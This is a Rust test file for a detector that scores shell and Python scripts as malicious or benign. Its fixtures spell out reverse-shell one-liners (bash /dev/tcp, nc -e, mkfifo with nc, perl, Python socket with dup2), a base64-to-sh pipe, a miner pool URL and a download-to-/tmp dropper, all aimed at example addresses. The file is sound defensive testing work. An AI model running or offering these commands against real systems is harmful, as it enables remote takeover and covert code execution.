use super::*;

fn sh(code: &str) -> ScriptScore {
    score(Language::Shell, code)
}

fn pyv(code: &str) -> ScriptScore {
    score(Language::Python, code)
}

#[test]
fn every_pattern_compiles() {
    assert_eq!(COMPILED.features.len(), FEATURES.len());
    let names: std::collections::BTreeSet<_> =
        FEATURES.iter().map(|f| f.name).chain(COMBOS.iter().map(|c| c.0)).collect();
    assert_eq!(names.len(), FEATURES.len() + COMBOS.len(), "feature names are unique");
}

#[test]
fn signatures_decide_alone() {
    for code in [
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "echo Y3VybCB4IHwgc2gK | base64 -d | sh",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.1 1234 >/tmp/f",
        "nc -e /bin/sh 203.0.113.1 4444",
        "./x -o stratum+tcp://pool.example.com:3333",
        "perl -e 'open(STDIN,\">&S\");exec(\"/bin/sh -i\")'",
    ] {
        let v = sh(code);
        assert!(v.malicious, "{code}: {v:?}");
    }
    let v = pyv("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))");
    assert!(v.malicious && v.reasons.contains(&"py_exec_decoded".to_string()), "{v:?}");
    let v = pyv("import socket,os\ns=socket.socket()\ns.connect(('203.0.113.9',1))\nos.dup2(s.fileno(),0)");
    assert!(v.malicious && v.reasons.contains(&"socket_dup2_shell".to_string()), "{v:?}");
}

#[test]
fn evidence_adds_up() {
    // Each alone is something installers do; together they are a dropper.
    let one = sh("curl -fsSL https://sh.rustup.example.com | sh -s -- -y");
    assert!(!one.malicious, "{one:?}");
    let v = sh("cd /tmp\nwget http://203.0.113.5/x -O /tmp/.x\nchmod +x /tmp/.x\nnohup /tmp/.x &\n");
    assert!(v.malicious, "{v:?}");
    for r in ["chmod_exec_tmp", "raw_ip_url", "download_to_tmp", "exec_from_tmp"] {
        assert!(v.reasons.iter().any(|x| x == r), "{r} missing: {v:?}");
    }
}

#[test]
fn benign_lookalikes_stay_quiet() {
    for code in [
        "timeout 1 bash -c \"</dev/tcp/$HOST/$PORT\" >/dev/null 2>&1",
        "echo \"$CONFIG_B64\" | base64 -d > /etc/app/config.yaml",
        "iptables -t nat -A POSTROUTING -s 10.0.0.0/24 -o eth0 -j MASQUERADE",
        "unset DB_PASSWORD\nexec \"$@\"",
        "openssl req -x509 -nodes -newkey rsa:2048 -days 365 -keyout k -out c",
        "curl -fsS http://127.0.0.1:8080/healthz",
        "exec gosu redis \"$0\" \"$@\"",
    ] {
        let v = sh(code);
        assert!(!v.malicious, "{code}: {v:?}");
    }
    let v = pyv("spec.loader.exec_module(mod)\nexec(compile(src, path, 'exec'), ns)");
    assert!(!v.malicious, "{v:?}");
}

#[test]
fn integrity_checks_lower_the_sum_but_never_cancel_a_signature() {
    let base = "wget -O /tmp/i.sh https://dl.example.com/i.sh\nchmod +x /tmp/i.sh\n/tmp/i.sh -b\n";
    let checked = format!("{base}echo \"$SUM  /tmp/i.sh\" | sha256sum -c\n");
    assert!(sh(&checked).score < sh(base).score);
    let v = sh("echo x | sha256sum -c\nbash -i >& /dev/tcp/203.0.113.7/1 0>&1");
    assert!(v.malicious, "{v:?}");
}

#[test]
fn python_features_do_not_fire_on_shell() {
    // `exec "$@"` and friends are not Python's exec.
    let v = sh("exec $(echo cHJpbnQ= | base64 -d)");
    assert!(!v.reasons.iter().any(|r| r.starts_with("py_")), "{v:?}");
}

#[test]
fn obfuscation_density() {
    let esc = "a=$'".to_string() + &"\\x63".repeat(30) + "'";
    assert!(sh(&esc).reasons.contains(&"escape_density".to_string()));
    let blob = format!("X={}", "QUJD".repeat(40));
    assert!(sh(&blob).reasons.contains(&"long_base64_blob".to_string()));
    let codes = format!("x=[{}]", "105,".repeat(30));
    assert!(pyv(&codes).reasons.contains(&"char_codes".to_string()));
}

#[test]
fn public_addresses_only() {
    assert!(non_public("127.0.0.1") && non_public("10.1.2.3") && non_public("172.20.0.1"));
    assert!(non_public("192.168.1.1") && non_public("169.254.169.254") && non_public("1.2.3.999"));
    assert!(!non_public("203.0.113.7") && !non_public("8.8.8.8") && !non_public("172.32.0.1"));
}

#[test]
fn deterministic_and_ordered() {
    let code = "curl http://203.0.113.5/x | sh\nhistory -c\n";
    let (a, b) = (sh(code), sh(code));
    assert_eq!(a, b);
    assert!(a.malicious);
    assert_eq!(a.reasons[0], "download_execute"); // strongest first
}

#[test]
fn empty_code_is_benign() {
    let v = sh("");
    assert_eq!((v.score, v.malicious, v.reasons.len()), (0.0, false, 0));
}
